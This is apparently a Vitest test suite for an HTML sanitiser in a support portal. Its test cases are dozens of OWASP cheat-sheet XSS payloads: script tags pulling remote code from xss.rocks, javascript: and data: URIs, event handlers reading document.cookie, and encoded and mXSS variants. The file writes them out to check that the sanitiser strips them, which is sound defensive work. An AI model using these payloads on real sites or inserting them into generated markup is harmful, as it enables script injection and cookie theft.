// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitiseHtml } from '@/lib/sanitise-html';
import { hostileArticle } from '../../server/seed/knowledge/hostile';

const run = 'window.__xss=1';

/**
 * Payloads of the OWASP XSS Filter Evasion Cheat Sheet (cheatsheetseries.owasp.org), plus the ones knowledge.hostile
 * carries. Each is a case: whatever comes out must be unable to run anything.
 */
const owaspPayloads: [string, string][] = [
  ['basic script', `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`],
  [
    'polyglot',
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e`,
  ],
  ['img javascript src', `<IMG SRC="javascript:alert('XSS');">`],
  ['no quotes no semicolon', `<IMG SRC=javascript:alert('XSS')>`],
  ['case insensitive', `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ['html entities', `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`],
  ['grave accents', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
  ['malformed a tag', `<a onmouseover="alert(document.cookie)">xxs link</a>`],
  ['malformed a no quotes', `<a onmouseover=alert(document.cookie)>xxs link</a>`],
  ['malformed img', `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`],
  ['fromCharCode', `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`],
  ['default src onerror', `<IMG SRC=# onmouseover="alert('xxs')">`],
  ['empty src onerror', `<IMG SRC= onmouseover="alert('xxs')">`],
  ['no src', `<IMG onmouseover="alert('xxs')">`],
  ['on error alert', `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`],
  [
    'img onerror encoded',
    `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  ],
  [
    'decimal entities',
    `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  ],
  [
    'decimal no semicolons',
    `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  ],
  [
    'hex no semicolons',
    `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  ],
  ['embedded tab', `<IMG SRC="jav	ascript:alert('XSS');">`],
  ['embedded encoded tab', `<IMG SRC="jav&#x09;ascript:alert('XSS');">`],
  ['embedded newline', `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`],
  ['embedded carriage return', `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
  ['null breaks up javascript', `<IMG SRC=java\0script:alert("XSS")>`],
  ['spaces and meta chars', `<IMG SRC=" &#14;  javascript:alert('XSS');">`],
  ['non-alpha-non-digit', `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`],
  ['non-alpha body onload', `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`],
  ['extraneous open brackets', `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`],
  ['no closing script tag', `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`],
  ['protocol resolution', `<SCRIPT SRC=//xss.rocks/.j>`],
  ['half open html', `<IMG SRC="\`<javascript:alert>\`('XSS')"`],
  ['double open angle', `<iframe src=http://xss.rocks/scriptlet.html <`],
  ['end title tag', `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`],
  ['input image', `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ['body image', `<BODY BACKGROUND="javascript:alert('XSS')">`],
  ['img dynsrc', `<IMG DYNSRC="javascript:alert('XSS')">`],
  ['img lowsrc', `<IMG LOWSRC="javascript:alert('XSS')">`],
  ['list-style-image', `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`],
  ['vbscript in image', `<IMG SRC='vbscript:msgbox("XSS")'>`],
  ['svg object tag', `<svg/onload=alert('XSS')>`],
  ['body tag', `<BODY ONLOAD=alert('XSS')>`],
  ['bgsound', `<BGSOUND SRC="javascript:alert('XSS');">`],
  ['ampersand javascript includes', `<BR SIZE="&{alert('XSS')}">`],
  ['style sheet link', `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`],
  ['remote style sheet', `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`],
  ['remote style sheet import', `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`],
  ['meta link header', `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`],
  ['style tag binding', `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`],
  ['style expression', `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`],
  ['style tag background', `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`],
  ['style background url', `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`],
  ['anonymous html with style', `<XSS STYLE="xss:expression(alert('XSS'))">`],
  ['meta refresh', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
  [
    'meta refresh data',
    `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  ],
  ['iframe', `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
  ['iframe event', `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`],
  ['iframe srcdoc', `<iframe srcdoc="<script>${run}</script>"></iframe>`],
  ['frame', `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
  ['table background', `<TABLE BACKGROUND="javascript:alert('XSS')">`],
  ['td background', `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`],
  ['div background-image', `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`],
  [
    'div background-image unicode',
    `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  ],
  ['div expression', `<DIV STYLE="width: expression(alert('XSS'));">`],
  ['base tag', `<BASE HREF="javascript:alert('XSS');//">`],
  ['object tag', `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`],
  [
    'embed svg',
    `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  ],
  [
    'xml data island',
    `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
  ],
  [
    'html+time',
    `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>`,
  ],
  ['a javascript href', `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`],
  ['a data text/html href', `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>`],
  ['a entity-split javascript href', `<a href="&#x6A;avascript&colon;alert(1)">link</a>`],
  ['svg script', `<svg><script>${run}</script></svg>`],
  ['svg a xlink', `<svg><a xlink:href="javascript:${run}"><text y="10">x</text></a></svg>`],
  [
    'math mxss',
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  ],
  ['noscript mxss', `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`],
  ['form action', `<form action="javascript:${run}"><button>go</button></form>`],
  ['button formaction', `<button formaction="javascript:${run}">go</button>`],
  ['details ontoggle', `<details open ontoggle="${run}">`],
  ['video source onerror', `<video><source onerror="${run}"></video>`],
  ['audio src onerror', `<audio src=x onerror="${run}">`],
  ['marquee onstart', `<marquee onstart="${run}">x</marquee>`],
  ['template', `<template><img src=x onerror="${run}"></template>`],
  ['dom clobbering', `<img name="cookie"><form id="location"></form>`],
];

const forbiddenElements =
  'script,style,iframe,frame,frameset,object,embed,form,input,button,base,meta,link,svg,math,template,noscript,xml,bgsound,audio,video,source,details,marquee';

/** What must hold for a sanitised fragment: no element or attribute that can run anything or load active content. */
function executableParts(html: string): string[] {
  const host = document.createElement('div');
  host.innerHTML = html;
  const found: string[] = [];
  for (const el of host.querySelectorAll(forbiddenElements)) found.push(`<${el.localName}>`);
  for (const el of host.querySelectorAll('*')) {
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      const value = attr.value.replace(/[\s\0]/g, '').toLowerCase();
      if (name.startsWith('on')) found.push(`${el.localName}[${name}]`);
      if (['style', 'srcdoc', 'background', 'dynsrc', 'lowsrc', 'formaction', 'action', 'id', 'name'].includes(name))
        found.push(`${el.localName}[${name}]`);
      if (/^(?:javascript|vbscript|livescript):/.test(value)) found.push(`${el.localName}[${name}=${value}]`);
      else if (name === 'href' && !/^(?:https?:|mailto:|\/|#|[a-z0-9._-]+(?:[/?#]|$))/.test(value))
        found.push(`a[href=${value}]`);
      if (name === 'src' && value.startsWith('data:') && !/^data:image\/(?:png|jpeg|gif|webp)/.test(value))
        found.push(`img[src=${value.slice(0, 30)}]`);
    }
  }
  return found;
}

describe('sanitiseHtml', () => {
  it.each(owaspPayloads)('leaves nothing executable of the OWASP payload: %s', (_name, payload) => {
    const out = sanitiseHtml(payload);
    expect(executableParts(out)).toEqual([]);
    // Put in the page, nothing runs.
    (window as unknown as { __xss?: number }).__xss = undefined;
    const host = document.createElement('div');
    host.innerHTML = out;
    document.body.append(host);
    host.remove();
    expect((window as unknown as { __xss?: number }).__xss).toBeUndefined();
  });

  it('the check itself finds what the payloads carry (it can fail)', () => {
    expect(executableParts(`<img src=x onerror="${run}"><a href="javascript:x">a</a><p style="x">s</p>`)).toEqual([
      'img[onerror]',
      'a[href=javascript:x]',
      'p[style]',
    ]);
  });

  it('leaves nothing executable of knowledge.hostile and keeps its text', () => {
    const out = sanitiseHtml(hostileArticle.body);
    expect(executableParts(out)).toEqual([]);
    expect(out).toContain('Hover over this paragraph.');
    expect(out).not.toMatch(/evil\.example|javascript:/i);
  });

  it('keeps benign markup: headings, lists, tables, code, links and images', () => {
    const html = [
      '<h2>Steps</h2>',
      '<ol><li>One <strong>bold</strong></li><li><em>Two</em></li></ol>',
      '<table><thead><tr><th scope="col">Status</th></tr></thead><tbody><tr><td colspan="2">Placed</td></tr></tbody></table>',
      '<pre><code>curl -H "Authorization: Bearer $TOKEN"</code></pre>',
      '<p><a href="https://www.example.com/guide">Guide</a> <a href="mailto:help@example.com">Mail</a> <a href="/help">Help</a></p>',
      '<p><img src="https://www.example.com/a.png" alt="Diagram" width="10" height="5"></p>',
    ].join('');
    const out = sanitiseHtml(html);
    const host = document.createElement('div');
    host.innerHTML = out;
    expect(host.querySelector('h2')?.textContent).toBe('Steps');
    expect(host.querySelectorAll('ol li')).toHaveLength(2);
    expect(host.querySelector('td')?.getAttribute('colspan')).toBe('2');
    expect(host.querySelector('th')?.getAttribute('scope')).toBe('col');
    expect(host.querySelector('code')?.textContent).toContain('Bearer');
    expect(host.querySelector('img')?.getAttribute('alt')).toBe('Diagram');
    expect(host.querySelector('img')?.getAttribute('src')).toBe('https://www.example.com/a.png');
    const links = Array.from(host.querySelectorAll('a'));
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://www.example.com/guide',
      'mailto:help@example.com',
      '/help',
    ]);
    expect(links.every((a) => a.getAttribute('rel') === 'noopener noreferrer')).toBe(true);
    expect(links[0]?.getAttribute('target')).toBe('_blank');
  });

  it('puts wide tables in a focusable region that scrolls sideways', () => {
    const host = document.createElement('div');
    host.innerHTML = sanitiseHtml('<table><caption>Prices</caption><tr><td>1</td></tr></table>');
    const region = host.querySelector('[role="region"]');
    expect(region?.getAttribute('tabindex')).toBe('0');
    expect(region?.getAttribute('aria-label')).toBe('Prices');
    expect(region?.querySelector('table')).not.toBeNull();
  });

  it('keeps article links in the portal and shows attachment images only as PNG/JPEG/GIF/WebP data', () => {
    const sysId = '0123456789abcdef0123456789abcdef';
    const html = `<a href="kb_view.do?sysparm_article=KB0010002">Statuses</a><img src="sys_attachment.do?sys_id=${sysId}" alt="Journey">`;
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const host = document.createElement('div');
    host.innerHTML = sanitiseHtml(html, {
      articleHref: (reference) => `/help-and-support/knowledge/articles/${reference}`,
      imageSrc: () => png,
    });
    const link = host.querySelector('a');
    expect(link?.getAttribute('href')).toBe('/help-and-support/knowledge/articles/KB0010002');
    expect(link?.getAttribute('data-article')).toBe('KB0010002');
    expect(host.querySelector('img')?.getAttribute('src')).toBe(png);

    host.innerHTML = sanitiseHtml(html, { imageSrc: () => 'data:image/svg+xml;base64,PHN2Zz4=' });
    expect(host.querySelector('img')?.hasAttribute('src')).toBe(false);
    expect(host.querySelector('img')?.getAttribute('alt')).toBe('Journey');
  });
});
